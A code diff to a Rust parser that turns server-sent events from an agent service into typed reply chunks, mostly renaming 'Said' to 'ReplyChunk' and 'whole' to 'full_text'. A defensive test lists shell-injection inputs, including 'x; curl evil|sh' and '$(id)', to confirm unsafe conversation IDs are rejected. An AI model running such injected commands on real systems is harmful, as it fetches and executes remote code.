@@ -8,7 +8,7 @@ use sse_stream::Sse;
 
 /// A piece of an answer.
 #[derive(Debug, Clone, PartialEq, Eq)]
-pub(super) enum Said {
+pub(super) enum ReplyChunk {
     /// Text for the user.
     Text(String),
     /// A tool is called, with these arguments.
@@ -30,24 +30,24 @@ fn typable(id: &str) -> Option<String> {
 }
 
 /// Reads an event.
-pub(super) fn read(event: &Sse) -> Said {
+pub(super) fn read(event: &Sse) -> ReplyChunk {
     let data = event.data.as_deref().unwrap_or_default();
     let data: Value = serde_json::from_str(data).unwrap_or_default();
     let text = |field: &str| data[field].as_str().unwrap_or_default().to_owned();
     match event.event.as_deref() {
-        None | Some("message") => Said::Text(text("token")),
-        Some("tool_call") => Said::Call { name: text("name"), arguments: data["arguments"].to_string() },
+        None | Some("message") => ReplyChunk::Text(text("token")),
+        Some("tool_call") => ReplyChunk::Call { name: text("name"), arguments: data["arguments"].to_string() },
         Some("tool_result") => {
-            Said::Outcome { ok: data["ok"] == true, took_ms: data["tookMs"].as_u64().unwrap_or_default() }
+            ReplyChunk::Outcome { ok: data["ok"] == true, took_ms: data["tookMs"].as_u64().unwrap_or_default() }
         }
-        Some("done") => Said::Done { conversation: data["conversation_id"].as_str().and_then(typable) },
-        Some("error") => Said::Failed(text("error")),
-        Some(_) => Said::Other,
+        Some("done") => ReplyChunk::Done { conversation: data["conversation_id"].as_str().and_then(typable) },
+        Some("error") => ReplyChunk::Failed(text("error")),
+        Some(_) => ReplyChunk::Other,
     }
 }
 
 /// What an answer that is no stream says: the text of an agent or a flow, or the answer as it is; and its conversation.
-pub(super) fn whole(body: &str) -> (String, Option<String>) {
+pub(super) fn full_text(body: &str) -> (String, Option<String>) {
     let Ok(Value::Object(answer)) = serde_json::from_str(body) else { return (body.to_owned(), None) };
     let text = ["reply", "text"].iter().find_map(|field| answer.get(*field)?.as_str());
     let conversation = answer.get("conversation_id").and_then(Value::as_str).and_then(typable);
@@ -74,20 +74,24 @@ mod tests {
 
     #[test]
     fn each_event_of_a_turn_is_understood() {
-        let done = |conversation: Option<&str>| Said::Done { conversation: conversation.map(str::to_owned) };
+        let done = |conversation: Option<&str>| ReplyChunk::Done { conversation: conversation.map(str::to_owned) };
         for (name, data, said) in [
-            (None, r#"{"token": "Hel"}"#, Said::Text("Hel".into())),
+            (None, r#"{"token": "Hel"}"#, ReplyChunk::Text("Hel".into())),
             (
                 Some("tool_call"),
                 r#"{"id": "1", "name": "weather", "arguments": {"city": "Paris"}}"#,
-                Said::Call { name: "weather".into(), arguments: r#"{"city":"Paris"}"#.into() },
+                ReplyChunk::Call { name: "weather".into(), arguments: r#"{"city":"Paris"}"#.into() },
             ),
-            (Some("tool_result"), r#"{"id": "1", "ok": true, "tookMs": 7}"#, Said::Outcome { ok: true, took_ms: 7 }),
+            (
+                Some("tool_result"),
+                r#"{"id": "1", "ok": true, "tookMs": 7}"#,
+                ReplyChunk::Outcome { ok: true, took_ms: 7 },
+            ),
             (Some("done"), r#"{"conversation_id": "c", "title": "t"}"#, done(Some("c"))),
             (Some("done"), "{}", done(None)),
-            (Some("error"), r#"{"error": "no model"}"#, Said::Failed("no model".into())),
-            (Some("usage"), "{}", Said::Other),
-            (None, "not json", Said::Text(String::new())),
+            (Some("error"), r#"{"error": "no model"}"#, ReplyChunk::Failed("no model".into())),
+            (Some("usage"), "{}", ReplyChunk::Other),
+            (None, "not json", ReplyChunk::Text(String::new())),
         ] {
             assert_eq!(read(&event(name, data)), said, "{name:?} {data}");
         }
@@ -95,22 +99,22 @@ mod tests {
 
     #[test]
     fn an_id_that_would_be_more_than_one_word_to_a_shell_is_none() {
-        let id = |id: &str| whole(&serde_json::json!({ "reply": "x", "conversation_id": id }).to_string()).1;
+        let id = |id: &str| full_text(&serde_json::json!({ "reply": "x", "conversation_id": id }).to_string()).1;
         for good in ["6b1f", "a.B_c:d-9", &"x".repeat(128)] {
             assert_eq!(id(good).as_deref(), Some(good));
         }
         for bad in ["", "x; curl evil|sh", "a\nb", "a b", "$(id)", "é", &"x".repeat(129)] {
             assert_eq!(id(bad), None, "{bad}");
             let data = serde_json::json!({ "conversation_id": bad }).to_string();
-            assert_eq!(read(&event(Some("done"), &data)), Said::Done { conversation: None }, "{bad}");
+            assert_eq!(read(&event(Some("done"), &data)), ReplyChunk::Done { conversation: None }, "{bad}");
         }
     }
 
     #[test]
     fn an_answer_that_is_no_stream_is_shown_too() {
-        assert_eq!(whole(r#"{"reply": "hi", "conversation_id": "c"}"#), ("hi".into(), Some("c".into())));
-        assert_eq!(whole("plain"), ("plain".into(), None));
-        assert_eq!(whole(r#"{"price": 3}"#), (r#"{"price": 3}"#.into(), None));
+        assert_eq!(full_text(r#"{"reply": "hi", "conversation_id": "c"}"#), ("hi".into(), Some("c".into())));
+        assert_eq!(full_text("plain"), ("plain".into(), None));
+        assert_eq!(full_text(r#"{"price": 3}"#), (r#"{"price": 3}"#.into(), None));
     }
 
     #[test]
